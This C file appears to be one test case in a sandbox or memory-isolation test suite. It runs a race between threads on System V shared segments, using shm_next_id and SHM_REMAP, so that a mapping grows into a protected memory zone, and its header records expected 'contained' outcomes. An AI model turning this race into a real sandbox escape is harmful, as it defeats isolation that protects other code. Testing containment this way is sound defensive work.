/* attack
class: mapping
aim: memory
race: true
may-be-closed: true
expect: { none: contained, mpk: contained }
tries: "a shared segment attached in front of the zone, whose number comes to mean a longer one meanwhile"
*/
/* A segment is judged by its length and attached by its number. Attached somewhere beside, it keeps the number, until another thread detaches
   it there. Which number comes next root may say; others would have to count round. */
#include "attack.h"
#include <pthread.h>
#include <sys/shm.h>
#include <time.h>
#define SECONDS 4
static const size_t too_long = (2ul << 30) + 4096;
static volatile int turn, stop; /* odd: it is the second thread's */
static int number, next;
static void *beside; /* where the kernel attaches what may lie anywhere */

static int make(size_t bytes) {
    char text[16];
    int length = snprintf(text, sizeof text, "%d", number);
    if (number > 0 && pwrite(next, text, (size_t)length, 0) != length) return -1;
    return shmget(IPC_PRIVATE, bytes, IPC_CREAT | SHM_NORESERVE | 0600);
}

static void *swaps(void *unused) {
    while (!stop) {
        if (!(turn & 1)) continue;
        for (volatile int i = 0; i < turn / 2 % 200 * 30; i++) {}
        shmctl(number, IPC_RMID, NULL); /* when nobody has it attached */
        if (shmdt(beside) == 0) (void)!make(too_long);
        turn++;
    }
    return unused;
}

/* Has the monitor look at other mappings meanwhile, for which everyone waits. */
static void *maps(void *unused) {
    int file = open("/proc/self/exe", O_RDONLY);
    while (!stop) {
        void *code = mmap(NULL, 1 << 14, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0);
        if (code != MAP_FAILED) munmap(code, 1 << 14);
    }
    return unused;
}

int main(void) {
    struct target t[64];
    read_targets(t, 64);
    if (t[0].own) zone_from = (uintptr_t)mmap(NULL, 2 * too_long, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0) + too_long;
    char *in_front = (char *)zone_from - (too_long - 4096);
    next = open("/proc/sys/kernel/shm_next_id", O_WRONLY);
    if (next < 0) not_here("no word in the numbers of segments");
    int segment = make(too_long);
    if (segment < 0) not_here("no shared segments");
    int escaped = shmat(segment, in_front, SHM_REMAP) == in_front, error = errno;
    shmctl(segment, IPC_RMID, NULL);
    number = segment;
    if (!escaped) {
        beside = shmat(make(4096), NULL, 0);
        shmctl(number, IPC_RMID, NULL);
        shmdt(beside);
        pthread_t threads[2];
        pthread_create(&threads[0], NULL, swaps, NULL);
        pthread_create(&threads[1], NULL, maps, NULL);
        for (time_t end = time(NULL) + SECONDS; time(NULL) < end && !escaped;) {
            if (make(4096) != number) continue;
            turn++;
            void *got = shmat(number, in_front, SHM_REMAP);
            struct shmid_ds what = {0};
            shmctl(number, IPC_STAT, &what);
            escaped = got == in_front && what.shm_segsz == too_long;
            while (turn & 1) {}
            shmctl(number, IPC_RMID, NULL);
            shmdt(in_front);
        }
        stop = 1;
    }
    errno = error;
    verdict(escaped);
}
